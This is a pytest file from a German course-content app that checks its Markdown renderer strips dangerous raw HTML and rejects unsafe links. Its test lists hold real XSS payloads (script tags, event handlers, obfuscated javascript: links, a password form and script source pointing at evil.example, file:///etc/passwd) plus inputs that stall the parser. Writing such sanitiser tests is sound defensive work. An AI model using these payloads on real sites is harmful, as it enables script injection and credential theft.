"""Lessons from strangers: raw HTML is cut down to a safe subset, with real attack strings."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from robust_helpers import assert_safe

from kompetenz.content.loader import load_course, read_lesson_text
from kompetenz.content.render import MAX_MARKUP_CHARS, TOO_COMPLEX_NOTICE, render_lesson
from kompetenz.content.sanitize import (
    DROP_WITH_CONTENT,
    is_safe_link,
    sanitize_document,
)
from kompetenz.resources import bundled_content_dir


def _html(module_dir: Path, text: str) -> str:
    return render_lesson(text, module_dir / "01-prompts.md", module_dir).html


ATTACKS = [
    # (raw lesson text, what must not survive, what the learner still reads)
    ("<script>alert(1)</script>\n\nDanach.", "alert", "Danach."),
    ("Text <script>stehle()</script> weiter", "stehle", "weiter"),
    ("<ScRiPt>alert(1)</sCrIpT>\n\nDanach.", "alert", "Danach."),
    ("Vor <sCrIpT src=//evil.example/x.js></ScRiPt> nach", "evil", "nach"),
    ('Bild <img src=x onerror="alert(2)">', "onerror", "Bild"),
    ('<img src="file:///etc/passwd">', "passwd", ""),
    ('<a href="javascript:alert(3)">Klick</a>', "javascript", "Klick"),
    ('<a href="&#106;avascript:alert(4)">Klick</a>', "alert", "Klick"),
    ('<a href="java\tscript:alert(5)">Klick</a>', "alert", "Klick"),
    ('<a href=" JAVASCRIPT:alert(6)">Klick</a>', "alert", "Klick"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">Klick</a>', "data:", "Klick"),
    ('<a href="file:///C:/Windows/win.ini">Klick</a>', "win.ini", "Klick"),
    ('<span style="display:none">versteckt</span>', "display", "versteckt"),
    ('<b style="color:white" onclick="x()">fett</b>', "onclick", "fett"),
    ('<iframe src="https://evil.example"></iframe>\n\nDanach.', "evil", "Danach."),
    ('<svg onload="alert(7)"><circle r="5"/></svg> Text', "onload", "Text"),
    ('<math><mi xlink:href="javascript:alert(8)">x</mi></math> Text', "javascript", "Text"),
    ("<!-- versteckter Kommentar --> sichtbar", "versteckter", "sichtbar"),
    ("<![CDATA[ <script>alert(9)</script> ]]> sichtbar", "alert", "sichtbar"),
    ('<object data="evil.swf"></object><embed src="evil.swf"> Text', "evil", "Text"),
    (
        '<form action="https://evil.example"><input name="passwort"><button>Los</button></form>',
        "passwort",
        "",
    ),
    ("<style>body { display: none }</style>\n\nText", "display", "Text"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"> Text', "evil", "Text"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example"> Text', "evil", "Text"),
    (
        '<table background="https://evil.example/bg.png"><tr><td>Zelle</td></tr></table>',
        "evil",
        "Zelle",
    ),
    ('<p class="box warning">Gefälschte Warnung</p>', "box", "Gefälschte Warnung"),
    ("<div><div><div>tief</div></div></div>", "<div", "tief"),
    ("<b>offen und nie geschlossen", "", "offen"),
]


@pytest.mark.parametrize(("text", "forbidden", "kept"), ATTACKS)
def test_attack_strings_are_defused(
    sample_module_dir: Path, text: str, forbidden: str, kept: str
) -> None:
    html = _html(sample_module_dir, text)
    assert_safe(html)
    if forbidden:
        assert forbidden.lower() not in html.lower(), html
    assert kept in html


def test_the_safe_subset_is_kept(sample_module_dir: Path) -> None:
    html = _html(
        sample_module_dir,
        "<b>b</b> <i>i</i> <em>em</em> <strong>st</strong> <u>u</u> H<sub>2</sub>O x<sup>2</sup>"
        '<br> <abbr title="Künstliche Intelligenz">KI</abbr> <kbd>Strg</kbd> <mark>m</mark> '
        '<small>s</small> <span lang="en">prompt</span> <a href="https://kmk.org">KMK</a>',
    )
    for fragment in (
        "<b>b</b>",
        "<i>i</i>",
        "<em>em</em>",
        "<strong>st</strong>",
        "<u>u</u>",
        "<sub>2</sub>",
        "<sup>2</sup>",
        "<br>",
        '<abbr title="Künstliche Intelligenz">KI</abbr>',
        "<kbd>Strg</kbd>",
        "<mark>m</mark>",
        "<small>s</small>",
        '<span lang="en">prompt</span>',
        '<a href="https://kmk.org">KMK</a>',
    ):
        assert fragment in html
    assert_safe(html)


def test_what_was_removed_is_reported(sample_module_dir: Path) -> None:
    result = render_lesson(
        '<script>x</script>\n\n<span style="x">a</span>',
        sample_module_dir / "01-prompts.md",
        sample_module_dir,
    )
    assert "<script>" in result.removed_html
    assert "<span style>" in result.removed_html


def test_markdown_code_keeps_its_angle_brackets(sample_module_dir: Path) -> None:
    html = _html(
        sample_module_dir, "```html\n<script>alert(1)</script>\n```\n\nInline `<iframe>` auch."
    )
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<code>&lt;iframe&gt;</code>" in html
    assert_safe(html)


def test_images_only_from_inside_the_module_even_as_raw_html(sample_module_dir: Path) -> None:
    inside = (sample_module_dir / "bilder" / "schema.png").resolve().as_uri()
    result = render_lesson(
        f'![Schema](bilder/schema.png)\n\n<img src="{inside}"> <img src="bilder/schema.png">',
        sample_module_dir / "01-prompts.md",
        sample_module_dir,
    )
    assert result.html.count("<img") == 1  # the Markdown image; raw <img> is not in the subset
    assert_safe(result.html, result.image_uris)


def test_the_final_pass_is_a_second_line_of_defence() -> None:
    """Whatever a Markdown extension might let through, the whole document is checked."""
    html = (
        '<h1 id="x" onclick="a()">T</h1><img src="https://evil.example/x.png">'
        '<a href="lesson:02.md">L</a><a href="vbscript:x">V</a><td style="x">c</td>'
    )
    cleaned = sanitize_document(html, image_sources=set()).html
    assert cleaned == '<h1 id="x">T</h1><a href="lesson:02.md">L</a><a>V</a><td>c</td>'


@pytest.mark.parametrize(
    "href", ["https://a.de", "http://a.de", "mailto:a@b.de", "lesson:02.md", "#abschnitt"]
)
def test_safe_links(href: str) -> None:
    assert is_safe_link(href)


@pytest.mark.parametrize(
    "href",
    [
        "javascript:x",
        " javascript:x",
        "JaVaScRiPt:x",
        "java\nscript:x",
        "\x00javascript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "vbscript:x",
        "//evil.example",
        "relativ.html",
        "#",
        "ftp://a.de",
    ],
)
def test_unsafe_links(href: str) -> None:
    assert not is_safe_link(href)


def test_every_bundled_lesson_passes_the_sanitizer_unchanged() -> None:
    """The policy covers everything our own Markdown produces: nothing legitimate is lost."""
    course = load_course([bundled_content_dir()])
    assert course.modules
    for module in course.modules:
        for lesson in module.lessons:
            result = render_lesson(read_lesson_text(lesson.path), lesson.path, module.folder)
            assert result.removed_html == [], (lesson.path, result.removed_html)
            assert not result.too_complex
            assert_safe(result.html, result.image_uris)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000,
        "*a" * 50_000,
        "<b>" * 50_000,
        "x <script> " * 20_000,
        "".join(" " * 2 * i + "- x\n" for i in range(400)),
    ],
)
def test_pathological_markdown_is_shown_as_text_quickly(sample_module_dir: Path, text: str) -> None:
    """Python-Markdown needs minutes for some inputs (100 KB of '[' ran > 15 minutes)."""
    start = time.perf_counter()
    result = render_lesson(text, sample_module_dir / "x.md", sample_module_dir)
    assert time.perf_counter() - start < 2.0
    assert result.too_complex
    assert TOO_COMPLEX_NOTICE in result.html
    assert_safe(result.html)


def test_the_budget_is_far_above_real_lessons() -> None:
    course = load_course([bundled_content_dir()])
    biggest = max(
        len(re.findall(r"[*_\[\]<>!&`|#~^]", read_lesson_text(lesson.path)))
        for module in course.modules
        for lesson in module.lessons
    )
    assert biggest * 10 < MAX_MARKUP_CHARS


def test_dropped_elements_cover_the_dangerous_ones() -> None:
    assert {"script", "style", "iframe", "object", "form", "button", "svg", "math"} <= (
        DROP_WITH_CONTENT
    )
